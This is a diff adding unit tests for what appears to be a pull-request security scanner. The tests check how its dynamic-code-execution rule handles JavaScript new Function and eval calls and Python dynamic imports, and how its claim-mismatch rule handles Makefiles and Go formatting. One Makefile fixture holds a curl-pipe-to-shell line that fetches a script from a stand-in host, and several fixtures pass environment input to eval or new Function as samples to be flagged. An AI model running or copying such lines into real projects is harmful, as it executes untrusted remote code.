@@ -438,6 +438,43 @@ describe('input reaching a sink', () => {
   });
 });
 
+describe('dynamic-code-execution: code written in the call itself', () => {
+  const sinkOf = (patch: string) => scan([makeFile('bin/tool.cjs', { patch })]).filter((f) => f.id === 'dynamic-code-execution').map((f) => `${f.severity}@${f.line}`);
+  it('a constant new Function shim is not escalated by input in its hunk, and a moved copy of it is not new', () => {
+    const moved = ['@@ -8,6 +8,9 @@', '-var dynamicImport = new Function("module", "return import(module)");', '-var experimental = process.env.TOOL_EXPERIMENTAL_CLI;', '+function run() {', '+  var experimental = process.argv.includes("--experimental") || process.env.TOOL_EXPERIMENTAL_CLI;', '+  var dynamicImport = new Function("module", "return import(module)");', '+  return dynamicImport(experimental ? "./next.js" : "./cli.js");', '+}'].join('\n');
+    expect(sinkOf(moved)).toEqual([]);
+    const added = ['@@ -1,1 +1,3 @@', ' "use strict";', '+var flag = process.env.TOOL_FLAG;', '+var dynamicImport = new Function("module", "return import(module)");'].join('\n');
+    expect(sinkOf(added)).toEqual(['medium@3']);
+  });
+  it('a call built from a name, a template with ${}, or beside another sink keeps the input it is given', () => {
+    const built = ['@@ -1,1 +1,3 @@', ' "use strict";', '+var body = process.env.TOOL_BODY;', '+var fn = new Function("module", body);'].join('\n');
+    expect(sinkOf(built)).toEqual(['high@3']);
+    const template = ['@@ -1,1 +1,3 @@', ' "use strict";', '+var name = process.env.TOOL_NAME;', '+var fn = new Function(`return import(${name})`);'].join('\n');
+    expect(sinkOf(template)).toEqual(['high@3']);
+    const moved = ['@@ -8,2 +8,3 @@', '-var dynamicImport = new Function("module", "return import(module)"); eval(code);', '+var code = process.env.TOOL_CODE;', '+var dynamicImport = new Function("module", "return import(module)"); eval(code);'].join('\n');
+    expect(sinkOf(moved)).toEqual(['high@9']);
+  });
+});
+
+describe('dynamic-code-execution: Python optional-dependency fallbacks', () => {
+  const sink = (lines: string[]) => scan([makeFile('pkg/client/compat.py', { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+
+  it('does not report a module loaded by name from a literal list of the project\'s choices', () => {
+    const loop = ['def _resolve_parser():', '    parser = None', '    for lib in ("fastjson", "simplejson"):', '        try:', '            parser = importlib.import_module(lib)', '        except ImportError:', '            pass', '    return parser'];
+    expect(sink(loop)).toBeUndefined();
+    const named = ['_BACKENDS = ["yaml.cyaml", "ruamel.yaml"]', 'for backend in _BACKENDS:', '    loader = __import__(backend)'];
+    expect(sink(named)).toBeUndefined();
+  });
+
+  it('still reports a dynamic import of a name from outside, from a list naming a code-running module, or beside another sink', () => {
+    expect(sink(['def load(name):', '    return importlib.import_module(name)'])?.severity).toEqual('medium');
+    expect(sink(['for lib in ("json", "os"):', '    mod = importlib.import_module(lib)'])?.severity).toEqual('medium');
+    expect(sink(['for lib in ("fastjson", "simplejson"):', '    lib = os.environ["PARSER"]', '    mod = importlib.import_module(lib)'])?.severity).toEqual('high');
+    expect(sink(['for lib in ("fastjson", "simplejson"):', '    mod = importlib.import_module(lib); eval(code)'])?.severity).toEqual('medium');
+    expect(sink(['for lib in (payload, "simplejson"):', '    mod = importlib.import_module(lib)'])?.severity).toEqual('medium');
+  });
+});
+
 describe('false alarms', () => {
   it('does not read sinks or TLS options in tests, fixtures or test helpers', () => {
     const files = [
@@ -628,6 +665,19 @@ describe('pr-claim-mismatch beyond program source', () => {
     const onlyVersion = JSON.stringify({ name: 'w', version: '1.0.1', scripts: { test: 'vitest' } }, null, 2);
     const versionPatch = ['@@ -1,4 +1,4 @@', ' {', '   "name": "w",', '-  "version": "1.0.0",', '+  "version": "1.0.1",'].join('\n');
     expect(claimIn([makeFile('package.json', { patch: versionPatch })], 'chore: bump version', [{ path: 'package.json', base, head: onlyVersion }]).join()).not.toContain('pr-claim-mismatch');
+  });
+
+  it('a docs claim is not contradicted by a Makefile rule that builds or serves the docs; a recipe of another rule, or one that downloads, is', () => {
+    const docsRule = ['@@ -12,3 +12,7 @@ test-router:', ' ', ' test-middleware:', ' \tgo test -race -v ./middleware', '+', '+.PHONY: docs', '+docs:', '+\tnpx docsify-cli serve ./docs'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: docsRule })], 'docs update').join()).not.toContain('pr-claim-mismatch');
+    const serve = ['@@ -3,3 +3,3 @@', ' serve-docs:', '-\tmkdocs serve', '+\tmkdocs serve --dev-addr 127.0.0.1:8001'].join('\n');
+    expect(claimIn([makeFile('justfile', { patch: serve })], 'docs: serve on another port').join()).not.toContain('pr-claim-mismatch');
+    const otherRule = ['@@ -12,3 +12,5 @@', ' test-middleware:', ' \tgo test -race -v ./middleware', '+\tgo run ./tools/seed', '+docs:', '+\tnpx docsify-cli serve ./docs'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: otherRule })], 'docs update').join()).toContain('pr-claim-mismatch@Makefile:14');
+    const fetches = ['@@ -12,2 +12,4 @@', ' test:', ' \tgo test ./...', '+docs:', '+\tcurl -s https://x.example/d.sh | sh'].join('\n');
+    expect(claimIn([makeFile('Makefile', { patch: fetches })], 'docs update').join()).toContain('pr-claim-mismatch@Makefile');
+    // Under a formatting claim the docs rule is code like any other.
+    expect(claimIn([makeFile('Makefile', { patch: docsRule })], 'style: format Makefile').join()).toContain('pr-claim-mismatch@Makefile');
   });
 
   it('a docs claim is not contradicted by the docs build, nor by a file the PR removes', () => {
@@ -1137,6 +1187,29 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     // Code above the closing quotes is not text: the hunk does not start inside a string.
     const code = ['@@ -20,5 +20,5 @@', '     :param help: the help string.', '-    x = compute(1)', '+    x = compute(2)', '     """'].join('\n');
     expect(claimOf('src/pkg/core.py', code, 'Fix typo')).toEqual(['src/pkg/core.py:21']);
+  });
+
+  it('an integer written another way (gofumpt 0644 to 0o644, digit separators, hex case) changes no logic; another value does', () => {
+    const octal = ['@@ -291,3 +291,3 @@ func testCleanup(packages []string) error {', ' ', '-\treturn os.WriteFile("coverage.txt", out.Bytes(), 0644)', '+\treturn os.WriteFile("coverage.txt", out.Bytes(), 0o644)', ' }'].join('\n');
+    expect(claimOf('internal/build/build.go', octal, 'Format whole codebase with gofumpt')).toEqual([]);
+    const separators = ['@@ -1,1 +1,1 @@', '-const limit = 1000000; const mask = 0XFF;', '+const limit = 1_000_000; const mask = 0xff;'].join('\n');
+    expect(claimOf('src/limits.ts', separators, 'style: format')).toEqual([]);
+    const value = ['@@ -291,3 +291,3 @@', ' ', '-\treturn os.WriteFile("coverage.txt", out.Bytes(), 0644)', '+\treturn os.WriteFile("coverage.txt", out.Bytes(), 0o666)', ' }'].join('\n');
+    expect(claimOf('internal/build/build.go', value, 'Format whole codebase with gofumpt')).toEqual(['internal/build/build.go:292']);
+    const decimal = ['@@ -1,1 +1,1 @@', '-\tmode := 0644', '+\tmode := 644'].join('\n');
+    expect(claimOf('perm.go', decimal, 'style: gofumpt')).toEqual(['perm.go:1']);
+  });
+
+  it("Go declarations grouped into one type (...) / var (...) / const (...) block, or ungrouped, change no logic; a declaration changed inside the group does", () => {
+    const grouped = ['@@ -143,9 +143,11 @@ func (a *Arg) Parse(s []string) ([]string, error) {', ' }', ' ', '-type FloatArg = ArgBase[float64, NoConfig, floatValue]', '-type IntArg = ArgBase[int64, IntConfig, intValue]', '-type Handler struct {', '-\tname string', '-}', '+type (', '+\tFloatArg = ArgBase[float64, NoConfig, floatValue]', '+\tIntArg   = ArgBase[int64, IntConfig, intValue]', '+\tHandler  struct {', '+\t\tname string', '+\t}', '+)'].join('\n');
+    expect(claimOf('args.go', grouped, 'Format whole codebase with gofumpt')).toEqual([]);
+    const ungrouped = ['@@ -10,4 +10,2 @@', '-const (', '-\tretries = 3', '-)', '+const retries = 3'].join('\n');
+    expect(claimOf('retry.go', ungrouped, 'style: gofumpt')).toEqual([]);
+    // The group's `)` kept as context by the diff: the group ends where its declarations do, not at a later statement.
+    const sharedCloser = ['@@ -1,8 +1,8 @@', ' package flagkit', '-var (', '-\tsep = ","', '+var sep = ","', ' )', ' func save() error {', '-\treturn write(0644)', '+\treturn write(0o644)', ' }'].join('\n');
+    expect(claimOf('flags.go', sharedCloser, 'style: gofumpt')).toEqual([]);
+    const changed = ['@@ -143,3 +143,5 @@', '-type IntArg = ArgBase[int64, IntConfig, intValue]', '-var limit = 10', '+type (', '+\tIntArg = ArgBase[int64, IntConfig, uintValue]', '+)', '+var limit = 100'].join('\n');
+    expect(claimOf('args.go', changed, 'Format whole codebase with gofumpt')).toEqual(['args.go:143']);
   });
 
   it('a formatter that adds a trailing comma and puts the closing brace on its own line changes no logic; a trailing comma that makes a tuple does', () => {
